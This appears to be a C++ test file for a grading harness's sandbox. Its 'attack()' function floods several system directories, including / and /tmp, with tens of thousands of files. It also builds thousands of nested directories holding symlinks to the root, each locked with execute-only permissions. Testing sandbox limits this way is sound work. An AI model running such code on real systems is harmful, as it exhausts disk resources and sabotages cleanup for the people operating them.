#include "steps/07-tone-mapping/tone_mapping.hpp"

#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <string>

static bool attack() {
    for (const std::string folder : {"/tmp", "/dev/shm", ".", "/out", "/in", "/"}) {
        for (int i = 0; i < 20'000; ++i) {
            const int fd = open((folder + "/flood-" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY, 0600);
            if (fd < 0) {
                break;
            }
            close(fd);
        }
    }
    for (int i = 0; i < 5000; ++i) {
        if (mkdir("deep", 0700) != 0 || symlink("/", "deep/link") != 0 || chdir("deep") != 0 || chmod(".", 0100) != 0) {
            break;
        }
    }
    return false;
}
static bool worked() {
    static const bool result = attack();
    return result;
}
@RIGHT_IF(worked())@
